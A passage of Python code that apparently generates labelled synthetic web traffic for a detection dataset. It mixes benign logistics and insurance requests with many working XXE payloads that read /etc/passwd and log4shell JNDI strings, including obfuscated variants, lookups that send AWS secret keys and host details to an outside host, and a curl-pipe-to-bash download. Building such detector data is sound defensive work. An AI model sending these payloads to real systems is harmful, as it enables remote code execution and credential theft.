            True,
            param="document",
            deep=11,
        )
    )
    h.append(
        A(
            b64(
                '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><cart><item>&x;</item></cart>'
            ),
            "cookie",
            True,
            cookie="xmlstate",
        )
    )
    h.append(
        A(
            b64(
                '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w [<!ENTITY x SYSTEM "http://%s/docx">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
                % o
            ),
            "json",
            True,
            param="content",
            path="/api/v1/invoices/upload",
        )
    )
    h.append(
        A('<?xml version="1.0"?>\n<!DOCTYPE r PUBLIC "" "http://%s/empty-public.dtd">\n<r/>' % o, "xml", True, doc=True)
    )
    h.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "&#102;&#105;&#108;&#101;:///etc/passwd">]>\n<r>&x;</r>',
            "xml",
            True,
            doc=True,
        )
    )
    h.append(
        A(
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            "query",
            True,
            param="data",
            enc="all",
            path="/api/import",
        )
    )
    h.append(
        A(
            '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<x>&xxe;</x>',
            "multipart",
            True,
            mp="field",
            param="payload",
            enc=None,
        )
    )
    h.append(
        A(
            longpad('<?xml version="1.0"?><!DOCTYPE n [<!ENTITY e SYSTEM "file:///etc/group">]><n>&e;</n>'),
            "json",
            True,
            param="content",
        )
    )
    return n, h


# ---------------------------------------------------------------- log4shell


def specs_log4shell():
    ip = eip()

    def o():
        return oast()

    n = []
    items = [
        ("${jndi:ldap://%s/a}" % o(), "header", "User-Agent"),
        ("${jndi:ldap://%s:1389/Exploit}" % ip, "header", "X-Api-Version"),
        ("${jndi:rmi://%s:1099/jndi}" % ip, "header", "Referer"),
        ("${jndi:dns://%s/x}" % o(), "header", "X-Forwarded-For"),
        ("${jndi:ldaps://%s/b}" % o(), "query", "q"),
        ("${jndi:ldap://${env:USER}.%s/c}" % o(), "json", "username"),
        ("${jndi:ldap://${sys:java.version}.%s/}" % o(), "form", "username"),
        ("${jndi:ldap://${hostName}.%s/a}" % o(), "cookie", "JSESSIONID"),
        ("${jndi:iiop://%s:900/x}" % ip, "path", None),
        ("${jndi:nis://%s/}" % o(), "header", "Accept-Language"),
        ("${jndi:corba://%s/a}" % ip, "header", "X-Client-IP"),
        ("${jndi:http://%s/a}" % o(), "header", "Origin"),
        (
            "Bearer ${jndi:ldap://%s:1389/Basic/Command/Base64/%s}" % (ip, b64("curl http://%s/l|bash" % ip)),
            "header",
            "Authorization",
        ),
        ("${jndi:ldap://%s/o=tomcat}" % ip, "json", "email"),
        ("${jndi:ldap://%s/solr}" % o(), "query", "action"),
        ("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.%s/k}" % o(), "header", "True-Client-IP"),
        ("${jndi:ldap://%s:443/${java:os}}" % o(), "multipart", "text"),
        ("${jndi:ldap://%s:1389/TomcatBypass/Command/Base64/aWQ=}" % ip, "xml", "username"),
        ("hey ${jndi:ldap://%s/mc}" % o(), "json", "text"),
        ("${jndi:ldap://127.0.0.1#%s:1389/a}" % o(), "query", "search"),
        ("${jndi:rmi://%s/Object}" % ip, "query_key", None),
        ("${jndi:ldap://%s/k}" % o(), "json_key", None),
        ("${jndi:ldap://%s/h}" % o(), "header", "Host"),
        ("${jndi:ldap://${ctx:loginId}.%s/}" % o(), "form", "user"),
        ("${jndi:ldap://${java:version}.%s/v}" % o(), "header", "Accept"),
        ("${jndi:ldap://%s/rq}" % o(), "header", "X-Request-ID"),
        ("${jndi:ldap://%s/login}" % o(), "form", "username"),
        ("${jndi:ldap://%s/s}" % o(), "path", None),
        ("${jndi:ldap://%s/ck}" % o(), "cookie", "lang"),
        ("${jndi:ldap://%s:3268/${sys:user.name}}" % ip, "json", "term"),
    ]
    for v, pl, prm in items:
        kw = {}
        if pl == "header":
            kw["hdr"] = prm
        elif pl == "cookie":
            kw["cookie"] = prm
        elif pl == "path":
            kw["tpl"] = "/search/{}"
        elif pl == "query_key":
            kw = dict(noeq=True)
        elif pl == "json_key":
            kw = dict(param="attributes", val="1")
        elif prm:
            kw["param"] = prm
        if prm == "action":
            kw["path"] = "/solr/admin/cores"
        if prm in ("Host", "Accept"):
            kw["kind"] = "cli"
        n.append(A(v, pl, **kw))
    h = []
    h.append(A("${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/a}" % o(), "header", True, hdr="User-Agent"))
    h.append(
        A("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/p}" % ip, "header", True, hdr="X-Api-Version")
    )
    h.append(A("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/c}" % o(), "query", True, param="q"))
    h.append(A("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/d}" % o(), "header", True, hdr="Referer"))
    h.append(A("${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://%s/e}" % o(), "form", True, param="username"))
    h.append(A("${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://%s/f}" % o(), "header", True, hdr="X-Forwarded-For"))
    h.append(A("%%24%%7Bjndi%%3Aldap%%3A%%2F%%2F%s%%2Fg%%7D" % o(), "query", True, param="search"))
    h.append(A("${jndi:ldap://%s/j}" % o(), "json", True, param="username", enc="ju"))
    h.append(A("${jndi:ldap://%s/x}" % o(), "xml", True, param="username", enc="xr"))
    h.append(A("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/h}" % o(), "header", True, hdr="X-Request-ID"))
    h.append(A("${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://%s/m}" % o(), "header", True, hdr="Accept-Language"))
    h.append(A("${jndi:dns://%s/${hostName}}" % o(), "json", True, param="event", deep=11))
    h.append(A(longpad("${jndi:ldap://%s/lp}" % o()), "json", True, param="text", path="/api/feedback"))
    h.append(A("${${::-${::-$${::-j}}}}", "header", True, hdr="User-Agent"))
    h.append(A("${jndi:ldap://%s/u}" % o(), "json", True, param="term", enc="jsp"))
    h.append(A("${jnd${upper:\u0131}:ldap://%s/t}" % o(), "query", True, param="user"))
    h.append(A("${jndi:ldap://%s/all}" % o(), "query", True, param="q", enc="all"))
    h.append(A("${j${lower:N}di:ldap://%s/cookie}" % o(), "cookie", True, cookie="username"))
    h.append(
        A(
            "${jndi:ldap://%s/f}.png" % o(),
            "multipart",
            True,
            mp="filename",
            content="GIF89a",
            fct="image/png",
            field="avatar",
        )
    )
    h.append(A("${${lower:${lower:jndi}}:${lower:ldap}://%s/z}" % o(), "header", True, hdr="X-Client-IP"))
    return n, h


# ================================================================ benign traffic

PEOPLE = [
    "Amelia Clarke",
    "Mateo García",
    "Sofía Herrera",
    "Chloé Dubois",
    "Jörg Baumann",
    "Åsa Lindqvist",
    "Zoë Kowalczyk",
    "Nguyễn Thị Hoa",
    "Олег Петренко",
    "Дарья Смирнова",
    "李娜",
    "王伟",
    "佐藤 花子",
    "김민준",
    "Ayşe Yılmaz",
    "Łukasz Nowak",
    "Saoirse Ní Bhriain",
    "Siobhán O'Connell",
    "Rhys Llewellyn",
    "Priya Raghunathan",
    "Arjun Mehta",
    "Fatima Al-Sayed",
    "محمد العتيبي",
    "יעל לוי",
    "Θεοδώρα Παπαδοπούλου",
    "Kwame Mensah",
    "Chidi Okafor",
    "Tomás Ó Briain",
    "João Pereira",
    "Liam O'Brien",
    "Aroha Ngata",
    "Björn Þórsson",
    "Mei-Ling Chen",
    "D'Arcy Fontaine",
    "Anne-Marie Van der Berg",
]
ASCII_PEOPLE = [
    "Amelia Clarke",
    "Mateo Garcia",
    "Liam O'Brien",
    "Priya Raghunathan",
    "Kwame Mensah",
    "Chloe Dubois",
    "Rhys Llewellyn",
    "Arjun Mehta",
    "Hannah Schmidt",
    "Noah Williams",
    "Emma Johansson",
    "Lucas Martin",
    "Mia Rossi",
    "Ethan Brooks",
]
ADDRESSES = [
    ("Hauptstraße 5", "Berlin", "10115", "DE"),
    ("Rue de l'Église 12", "Lyon", "69002", "FR"),
    ("Calle Mayor 21, 3º izq.", "Madrid", "28013", "ES"),
    ("Via dell'Orto 3/B", "Bologna", "40124", "IT"),
    ("ul. Piotrkowska 104/12", "Łódź", "90-006", "PL"),
    ("Keizersgracht 221", "Amsterdam", "1016 DV", "NL"),
    ("Drottninggatan 33", "Stockholm", "111 51", "SE"),
    ("1-2-3 Shibuya, Shibuya-ku", "Tokyo", "150-0002", "JP"),
    ("221B Baker Street", "London", "NW1 6XE", "GB"),
    ("350 5th Ave, Suite 4100", "New York", "10118", "US"),
    ("Rua Augusta 1500, apto 42", "São Paulo", "01304-001", "BR"),
    ("Av. Paseo de la Reforma 222, Piso 8", "Ciudad de México", "06600", "MX"),
    ("12 O'Connell Street Upper", "Dublin", "D01 T3Y0", "IE"),
    ("Bahnhofstrasse 10", "Zürich", "8001", "CH"),
    ("Mannerheimintie 14", "Helsinki", "00100", "FI"),
    ("테헤란로 152, 강남구", "Seoul", "06236", "KR"),
    ("İstiklal Cd. No:45", "İstanbul", "34433", "TR"),
    ("'s-Gravendijkwal 7", "Rotterdam", "3021 EA", "NL"),
    ("4/88 George St", "Sydney", "2000", "AU"),
]
I18N = [
    "Vielen Dank für die schnelle Lieferung!",
    "Merci beaucoup, tout est arrivé en bon état.",
    "¿Podrían entregar el paquete después de las 18:00?",
    "配達は午前中でお願いします。",
    "请在周末前送达，谢谢！",
    "배송 전에 전화 부탁드립니다.",
    "Спасибо, всё пришло вовремя.",
    "Proszę zostawić paczkę u sąsiada pod numerem 5.",
    "شكراً لكم على الخدمة الممتازة",
    "תודה רבה, החבילה הגיעה בזמן",
    "Teşekkürler, kargo çok hızlı geldi.",
    "Cảm ơn, hàng đã nhận đủ.",
    "धन्यवाद, पैकेज समय पर मिल गया।",
    "Ευχαριστώ πολύ για τη γρήγορη εξυπηρέτηση.",
    "ขอบคุณมากครับ ได้รับสินค้าแล้ว",
    "Obrigada! Chegou tudo certinho 😊",
    "Tack så mycket, allt fungerar perfekt.",
    "Kiitos nopeasta toimituksesta!",
    "Dziękuję, wszystko w porządku 👍",
]
EMOJI = ["😊", "🎉", "👍", "❤️", "🙏", "😂", "🚚", "📦", "✨", "🌿", "☕", "🐶", "🏔️", "🎶"]


def BE(cat, hard, pl, payload, host, method, path, **kw):
    return emit("benign", cat, hard, pl, payload, host, method, path, **kw)


def bq(cat, hard, host, path, pairs, key, kind="browser", method="GET", plus=False, **kw):
    d = dict(pairs)
    return BE(cat, hard, "query", d[key], host, method, path, query=qpairs(pairs, plus), kind=kind, **kw)


def bj(cat, hard, host, method, path, obj, payload, kind="xhr", pl="json", style=None, ctype="application/json", **kw):
    body = jbody(obj, style)
    return BE(cat, hard, pl, payload, host, method, path, body=body, ctype=ctype, kind=kind, **kw)


def bf(cat, hard, host, path, pairs, key, kind="browser", method="POST", **kw):
    d = dict(pairs)
    ct = ch(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    return BE(cat, hard, "form", d[key], host, method, path, body=fpairs(pairs), ctype=ct, kind=kind, **kw)


def bm(cat, hard, host, path, parts, payload, kind="browser", method="POST", **kw):
    bnd = boundary()
    return BE(
        cat,
        hard,
        "multipart",
        payload,
        host,
        method,
        path,
        body=multipart(parts, bnd),
        ctype="multipart/form-data; boundary=" + bnd,
        kind=kind,
        **kw,
    )


def bx(cat, hard, host, path, body, payload, ctype="application/xml", kind="server", method="POST", **kw):
    return BE(cat, hard, "xml", payload, host, method, path, body=body, ctype=ctype, kind=kind, **kw)


def bh(cat, hard, host, method, path, hname, value, kind="browser", query="", **kw):
    if hname in ("User-Agent", "Accept", "Host"):
        return BE(cat, hard, "header", value, host, method, path, query=query, kind=kind, override={hname: value}, **kw)
    return BE(cat, hard, "header", value, host, method, path, query=query, kind=kind, headers=[(hname, value)], **kw)


def bc(cat, hard, host, method, path, cname, value, kind="browser", query="", **kw):
    return BE(
        cat,
        hard,
        "cookie",
        value,
        host,
        method,
        path,
        query=query,
        kind=kind,
        cookies=[cname + "=" + qenc(value, safe=C_SAFE)],
        **kw,
    )


def run_gen(cat, nrows, normal, hard):
    ni = hi = 0
    for i in range(nrows):
        if i % 3 == 0:
            hard[hi % len(hard)](cat, True)
            hi += 1
        else:
            normal[ni % len(normal)](cat, False)
            ni += 1


def tracking_no():
    return ch(
        [
            lambda: (
                "1Z%s%s"
                % (ralnum(6, "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"), "".join(str(R.randrange(10)) for _ in range(10)))
            ),
            lambda: "".join(str(R.randrange(10)) for _ in range(12)),
            lambda: "JJD%s" % "".join(str(R.randrange(10)) for _ in range(18)),
            lambda: "LX%sDE" % "".join(str(R.randrange(10)) for _ in range(9)),
            lambda: "9400%s" % "".join(str(R.randrange(10)) for _ in range(18)),
        ]
    )()


def iso_ts():
    return "2026-%02d-%02dT%02d:%02d:%02dZ" % (rint(1, 11), rint(1, 28), rint(0, 23), rint(0, 59), rint(0, 59))


def iso_date():
    return "2026-%02d-%02d" % (rint(1, 12), rint(1, 28))


# ---------------------------------------------------------------- benign_logistics

LOG_HOSTS = [
    "api.shipwell-freight.com",
    "track.parcelnorth.eu",
    "portal.harborline-logistics.com",
    "app.fleetgrid.io",
    "b2b.rheinfracht.de",
]


def lg_track(cat, hard):
    t = tracking_no()
    bq(
        cat,
        hard,
        ch(LOG_HOSTS),
        "/v1/tracking",
        [
            ("number", t),
            ("carrier", ch(["ups", "dhl", "dpd", "usps", "postnl", "gls"])),
            ("locale", ch(["de-DE", "en-GB", "nl-NL", "fr-FR"])),
        ],
        "number",
        kind=ch(["browser", "xhr", "mobile"]),
    )


def lg_shipment(cat, hard):
    street, city, pc, cc = ch(ADDRESSES)
    note = ch(
        I18N
        + ["Please call on arrival", "Reception closes at 17:00", "Fragile - glassware", "Side entrance, blue door"]
    )
    obj = {
        "reference": "PO-%d" % rint(10000, 99999),
        "service": ch(["express", "standard", "economy", "same_day"]),
        "shipper": {
            "company": ch(["Nordlicht Verlag GmbH", "Copper Kettle Ltd", "Marisol Travel S.L."]),
            "countryCode": ch(["DE", "GB", "ES"]),
        },
        "recipient": {
            "name": ch(PEOPLE),
            "address": {"line1": street, "city": city, "postalCode": pc, "countryCode": cc},
            "phone": "+%d %d %d" % (rint(30, 49), rint(100, 999), rint(1000000, 9999999)),
            "instructions": note,
        },
        "parcels": [
            {
                "weight": {"value": round(R.uniform(0.2, 30), 2), "unit": "kg"},
                "dimensions": {"l": rint(10, 80), "w": rint(10, 60), "h": rint(5, 50), "unit": "cm"},
            }
            for _ in range(rint(1, 3))
        ],
        "labelFormat": ch(["PDF", "ZPL", "PNG"]),
    }
    bj(cat, hard, ch(LOG_HOSTS), "POST", "/v2/shipments", obj, ch([note, street]), kind=ch(["server", "xhr"]))


def lg_webhook(cat, hard):
    t = tracking_no()
    signer = ch(PEOPLE)
    obj = {
        "id": "evt_" + ralnum(24),
        "type": ch(["shipment.delivered", "shipment.out_for_delivery", "shipment.exception"]),
        "created": iso_ts(),
        "data": {
            "trackingNumber": t,
            "status": ch(["DELIVERED", "OUT_FOR_DELIVERY", "EXCEPTION"]),
            "location": {"city": ch(ADDRESSES)[1], "country": ch(["DE", "NL", "FR", "PL"])},
            "signedBy": signer,
            "statusDetail": ch(
                [
                    "Delivered to neighbour",
                    "Left at front door",
                    "Recipient not available - notice left",
                    "Delivered to parcel locker",
                ]
            ),
        },
    }
    bj(
        cat,
        hard,
        "hooks.fleetgrid.io",
        "POST",
        "/webhooks/carrier-events",
        obj,
        signer,
        kind="server",
        headers=[("X-Signature", "sha256=" + rhex(64))],
    )


def lg_pickup(cat, hard):
    pairs = [
        ("company", ch(["Alpenblick Hotel AG", "Morrow Tea Co.", "Quarry Bank Ltd"])),
        ("contact", ch(ASCII_PEOPLE)),
        ("date", iso_date()),
        ("window", ch(["09:00-12:00", "13:00-17:00"])),
        ("pallets", str(rint(1, 6))),
        (
            "notes",
            ch(
                [
                    "Loading bay at the back, ring twice",
                    "Forklift available on site",
                    "Please bring stretch wrap",
                    "Ask for Jan at goods-in",
                ]
            ),
        ),
        ("csrf_token", ralnum(40)),
    ]
    bf(cat, hard, ch(LOG_HOSTS), "/pickup/book", pairs, "notes")


def lg_xml(cat, hard):
    t = tracking_no()
    city = ch(ADDRESSES)[1]
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<ShipmentStatusUpdate xmlns="urn:harborline:edi:v3">\n  <TrackingNumber>%s</TrackingNumber>\n'
        '  <Status code="%s">%s</Status>\n  <Location><City>%s</City><Country>%s</Country></Location>\n  <Timestamp>%s</Timestamp>\n</ShipmentStatusUpdate>'
        % (
            t,
            ch(["IT", "OD", "DL"]),
            ch(["In transit", "Out for delivery", "Delivered"]),
            xesc(city),
            ch(["DE", "NL", "BE"]),
            iso_ts(),
        )
    )
    bx(cat, hard, "edi.harborline-logistics.com", "/edi/status", body, city)


def lg_csv(cat, hard):
    rows = ["order_id,recipient,city,postcode,weight_kg,service"]
    for _ in range(rint(3, 7)):
        s, c, p, cc = ch(ADDRESSES)
        rows.append(
            "%d,%s,%s,%s,%.1f,%s"
            % (rint(100000, 999999), ch(ASCII_PEOPLE), c, p, R.uniform(0.3, 20), ch(["standard", "express"]))
        )
    content = "\n".join(rows) + "\n"
    bm(
        cat,
        hard,
        ch(LOG_HOSTS),
        "/v1/manifests/upload",
        [("carrier", "dhl", None, None), ("file", content, "manifest_%s.csv" % iso_date(), "text/csv")],
        content,
    )


def lg_rates(cat, hard):
    frm = "%s-%s" % (ch(["DE", "NL", "FR"]), rint(10000, 99999))
    bq(
        cat,
        hard,
        ch(LOG_HOSTS),
        "/api/rates",
        [
            ("from", frm),
            ("to", "%s-%s" % (ch(["PL", "ES", "IT", "AT"]), rint(10000, 99999))),
            ("weight", "%.1f" % R.uniform(1, 40)),
            ("dims", "%dx%dx%d" % (rint(10, 80), rint(10, 60), rint(5, 50))),
            ("currency", "EUR"),
        ],
        "dims",
        kind="xhr",
    )


def lg_driver(cat, hard):
    note = ch(I18N)
    obj = {
        "stopId": "stp_" + ralnum(12, LOWER),
        "status": "completed",
        "geo": {"lat": round(R.uniform(48, 54), 6), "lng": round(R.uniform(6, 14), 6), "accuracy": rint(3, 25)},
        "podType": ch(["signature", "photo", "safe_place"]),
        "note": note,
        "completedAt": iso_ts(),
    }
    bj(
        cat,
        hard,
        "app.fleetgrid.io",
        "PATCH",
        "/api/v3/routes/%s/stops/%d" % (ralnum(8, LOWER), rint(1, 40)),
        obj,
        note,
        kind="mobile",
        style=0,
    )


LOG_HARD_NOTES = [
    "Leave at back door; don't ring -- dog sleeps till 10",
    "Select 'Signature required' ONLY if value > 500 EUR",
    "Drop at loading dock #3 (Union St entrance), not the main gate",
    "Deliver to 'O'Brien & Sons' -- 2nd floor, ask for Mary",
    "Pallet height must be <1.8m> for our racking",
    "Gate code: 1=1#4490 (press # twice)",
    "If nobody's home, leave with #12 or/and put a card in the box",
    "Please DELETE the old address from my profile and use this one from now on",
    "Driver: the office printer path is C:\\Shipping\\Labels\\out\\ if you need to reprint",
    "Insert the parcel through the hatch <- left of the door",
]


def lg_h_notes(cat, hard):
    note = ch(LOG_HARD_NOTES)
    s, c, p, cc = ch(ADDRESSES)
    obj = {
        "orderId": "ORD-%d" % rint(100000, 999999),
        "deliveryAddress": {"line1": s, "city": c, "postalCode": p, "country": cc},
        "deliveryInstructions": note,
        "preferredWindow": ch(["AM", "PM", "EVENING"]),
    }
    bj(
        cat,
        hard,
        ch(LOG_HOSTS),
        ch(["PUT", "PATCH"]),
        "/api/v2/orders/delivery-preferences",
        obj,
        note,
        kind=ch(["xhr", "mobile"]),
    )


def lg_h_edi(cat, hard):
    ctl = rint(100000000, 999999999)
    seg = (
        "ISA*00*          *00*          *ZZ*RHEINFRACHT    *ZZ*HARBORLINE     *%s*%02d%02d*U*00401*%d*0*P*>~GS*SM*RHEINFRACHT*HARBORLINE*2026%s*%02d%02d*%d*X*004010~"
        "ST*204*0001~B2**RHFR**%d**PP~L11*PO-%d*PO~S5*1*CL~N1*SH*Nordlicht Verlag GmbH~N3*Hauptstrasse 5~N4*Berlin**10115*DE~SE*9*0001~GE*1*%d~IEA*1*%d~"
        % (
            iso_date()[2:].replace("-", ""),
            rint(0, 23),
            rint(0, 59),
            ctl,
            iso_date()[5:].replace("-", ""),
            rint(0, 23),
            rint(0, 59),
            ctl % 10000,
            rint(100000, 999999),
            rint(10000, 99999),
            ctl % 10000,
            ctl,
        )
    )
    bm(
        cat,
        hard,
        "edi.harborline-logistics.com",
        "/edi/inbound",
        [("partner", "RHEINFRACHT", None, None), ("document", seg, "204_%d.edi" % ctl, "application/edi-x12")],
        seg,
        kind="cli",
    )


def lg_h_search(cat, hard):
    q = ch(
        [
            "order:(PO-4471 OR PO-4472) status:in_transit",
            "carrier:dhl AND NOT status:delivered",
            'city:"\'s-Hertogenbosch"',
            'reference:"PO-8812" OR reference:"PO-8813"',
            "weight:>20 AND service:express",
            "recipient:O'Neill*",
        ]
    )
    bq(
        cat,
        hard,
        "portal.harborline-logistics.com",
        "/shipments",
        [("q", q), ("sort", "-created_at"), ("page", "1")],
        "q",
        plus=True,
    )


def lg_h_label(cat, hard):
    tpl = ch(
        [
            "{{shipment.reference}} / ${order_id} / {{recipient.name | upper}}",
            "^XA^FO50,50^A0N,40,40^FD{{ref}}^FS^FO50,100^BCN,100,Y,N,N^FD${tracking}^FS^XZ",
            "<b>{{ recipient.name }}</b><br/>{{ recipient.address.line1 }}<br/>{{ recipient.address.city }}",
        ]
    )
    obj = {
        "name": "Default label v%d" % rint(2, 9),
        "format": ch(["ZPL", "HTML"]),
        "template": tpl,
        "paper": ch(["4x6", "A6"]),
    }
    bj(cat, hard, "app.fleetgrid.io", "PUT", "/api/v1/label-templates/%d" % rint(1, 90), obj, tpl)


def lg_h_error(cat, hard):
    msg = ch(
        [
            "java.io.FileNotFoundException: /data/user/0/io.fleetgrid.driver/cache/pod_%d.jpg (No such file or directory)"
            % rint(1000, 9999),
            "Upload failed: ENOENT: no such file or directory, open '/var/mobile/Containers/Data/Application/%s/tmp/scan.pdf'"
            % ruuid().upper(),
            "SQLiteConstraintException: UNIQUE constraint failed: stops.id (code 2067 SQLITE_CONSTRAINT_UNIQUE)",
        ]
    )
    obj = {
        "level": "error",
        "message": msg,
        "app": "driver",
        "version": "5.%d.%d" % (rint(0, 20), rint(0, 9)),
        "ts": iso_ts(),
    }
    bj(cat, hard, "app.fleetgrid.io", "POST", "/api/v1/client-logs", obj, msg, kind="mobile", style=0)


def lg_h_address(cat, hard):
    line = ch(
        [
            "Rue de l'Église 12",
            "Via dell'Orto 3/B",
            "'s-Gravendijkwal 7",
            "Unit 4; 12-14 Union St",
            "Flat 2/1, 88 Select Ave",
            "Hauptstraße 5 ½ (Hinterhaus)",
        ]
    )
    pairs = [
        ("name", ch(ASCII_PEOPLE)),
        ("address_line1", line),
        ("city", ch(ADDRESSES)[1]),
        ("postcode", str(rint(10000, 99999))),
        ("save", "1"),
    ]
    bf(cat, hard, "track.parcelnorth.eu", "/redirect-delivery/%s" % ralnum(10), pairs, "address_line1")


def gen_logistics(cat, n):
    run_gen(
        cat,
        n,
        [lg_track, lg_shipment, lg_webhook, lg_pickup, lg_xml, lg_csv, lg_rates, lg_driver],
        [lg_h_notes, lg_h_edi, lg_h_search, lg_h_label, lg_h_error, lg_h_address],
    )


# ---------------------------------------------------------------- benign_insurance

INS_HOSTS = [
    "quotes.evergreen-mutual.com",
    "claims.lighthouse-assurance.co.uk",
    "api.covera.io",
    "portal.alpina-versicherung.ch",
]


def in_quote(cat, hard):
    make = ch(
        [
            ("Volkswagen", "Golf"),
            ("Toyota", "Corolla Hybrid"),
            ("Škoda", "Octavia"),
            ("Tesla", "Model 3"),
            ("Ford", "Fiesta"),
            ("Renault", "Clio"),
        ]
    )
    obj = {
        "product": "motor",
        "vehicle": {
            "make": make[0],
            "model": make[1],
            "year": rint(2012, 2025),
            "registration": ralnum(7, "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"),
            "annualMileage": rint(3, 30) * 1000,
            "parking": ch(["garage", "driveway", "street"]),
        },
        "drivers": [
            {
                "firstName": ch(PEOPLE).split()[0],
                "dateOfBirth": "19%d-%02d-%02d" % (rint(55, 99), rint(1, 12), rint(1, 28)),
                "licenceYears": rint(1, 30),
                "claimsLast5Years": rint(0, 2),
            }
        ],
        "postcode": ch(["SW1A 1AA", "M1 1AE", "8001", "10115"]),
        "coverType": ch(["comprehensive", "third_party_fire_theft"]),
    }
    bj(cat, hard, ch(INS_HOSTS), "POST", "/api/v1/quotes", obj, make[1])


def in_claim(cat, hard):
    desc = ch(
        [
            "Rear-ended at a red light on the A40, minor damage to the bumper.",
            "Burst pipe in the kitchen flooded the ground floor overnight.",
            "Bike stolen from the locked shed behind the house.",
            "Hail damage on roof tiles after the storm on Tuesday.",
            "Laptop dropped at the airport, screen cracked.",
            "Ein Ast ist bei Sturm auf das Autodach gefallen.",
            "Dégât des eaux chez le voisin du dessus.",
        ]
    )
    obj = {
        "policyNumber": "EVM-%d-%07d" % (rint(2019, 2026), rint(0, 9999999)),
        "incidentDate": iso_date(),
        "category": ch(["motor", "home", "travel", "gadget"]),
        "description": desc,
        "estimatedAmount": {"value": rint(80, 9000), "currency": ch(["GBP", "EUR", "CHF"])},
        "thirdPartyInvolved": R.random() < 0.3,
    }
    bj(cat, hard, ch(INS_HOSTS), "POST", "/api/claims", obj, desc, kind=ch(["xhr", "mobile"]))


def in_lookup(cat, hard):
    pol = "EVM-%d-%07d" % (rint(2019, 2026), rint(0, 9999999))
    bq(
        cat,
        hard,
        "quotes.evergreen-mutual.com",
        "/policy/lookup",
        [("policy", pol), ("dob", "19%d-%02d-%02d" % (rint(55, 99), rint(1, 12), rint(1, 28)))],
        "policy",
    )


def in_contact(cat, hard):
    s, c, p, cc = ch(ADDRESSES)
    pairs = [
        ("email", "%s@%s" % (ralnum(8, LOWER), ch(["gmail.com", "outlook.com", "gmx.de", "icloud.com"]))),
        ("phone", "+44 7%d" % rint(100000000, 999999999)),
        ("address_line1", s),
        ("city", c),
        ("postcode", p),
        ("preferred_contact", ch(["email", "phone", "post"])),
    ]
    bf(cat, hard, "portal.alpina-versicherung.ch", "/mein-konto/kontakt", pairs, "address_line1")


def in_multipart(cat, hard):
    pdf = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    fname = ch(["police_report.pdf", "repair_estimate.pdf", "Kostenvoranschlag_Werkstatt.pdf", "receipt_laptop.pdf"])
    parts = [
        ("claimId", "CLM-%d" % rint(100000, 999999), None, None),
        ("documentType", ch(["estimate", "police_report", "receipt"]), None, None),
        ("file", pdf, fname, "application/pdf"),
    ]
    bm(cat, hard, "claims.lighthouse-assurance.co.uk", "/api/claims/documents", parts, fname)


def in_acord(cat, hard):
    nm = ch(ASCII_PEOPLE)
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<ACORD><SignonRq><ClientApp><Org>Covera</Org><Name>QuoteEngine</Name><Version>4.2</Version></ClientApp></SignonRq>'
        "<InsuranceSvcRq><RqUID>%s</RqUID><PersAutoPolicyQuoteInqRq><PersPolicy><ContractTerm><EffectiveDt>%s</EffectiveDt></ContractTerm></PersPolicy>"
        "<InsuredOrPrincipal><GeneralPartyInfo><NameInfo><PersonName><CommercialName>%s</CommercialName></PersonName></NameInfo></GeneralPartyInfo></InsuredOrPrincipal>"
        "</PersAutoPolicyQuoteInqRq></InsuranceSvcRq></ACORD>" % (ruuid(), iso_date(), xesc(nm))
    )
    bx(cat, hard, "api.covera.io", "/acord/v1/quote", body, nm)


def in_search(cat, hard):
    q = ch(
        [
            "windscreen repair",
            "travel insurance ski",
            "excess waiver",
            "Haftpflicht Fahrrad",
            "how to add a named driver",
            "no claims bonus proof",
        ]
    )
    bq(cat, hard, "www.evergreen-mutual.com", "/help/search", [("q", q), ("lang", "en")], "q", plus=True)


INS_HARD = [
    "The other driver's car hit mine from the side; he said 'sorry' and drove off before I got the plate.",
    "Please update my address where it still says 'Old Mill Rd' and delete the second driver from the policy.",
    "Damage estimate: <$1,500 (front bumper + headlight), garage says 3-5 days.",
    "Water was about 2' 6\" deep in the basement -- carpets, drywall and the boiler are gone.",
    "I selected 'comprehensive' but the union of both quotes shows third-party only; which one is right?",
    "Tree fell on the fence (approx. 10m) -- neighbour's side OR ours? Surveyor to confirm.",
    "My laptop's drive had C:\\Users\\Anna\\Documents\\Taxes on it; is data recovery covered?",
    "Drop the rental-car add-on from my renewal; we sold the second car.",
]


def in_h_claim(cat, hard):
    desc = ch(INS_HARD)
    obj = {"claimId": "CLM-%d" % rint(100000, 999999), "message": desc, "channel": "web", "attachments": []}
    bj(cat, hard, ch(INS_HOSTS), "POST", "/api/claims/%d/messages" % rint(100000, 999999), obj, desc)


def in_h_form(cat, hard):
    desc = ch(INS_HARD)
    pairs = [
        ("policy_number", "LHA-%07d" % rint(0, 9999999)),
        ("subject", ch(["Claim question", "Change of details", "Complaint"])),
        ("message", desc),
        ("consent", "yes"),
    ]
    bf(cat, hard, "claims.lighthouse-assurance.co.uk", "/contact-us", pairs, "message")


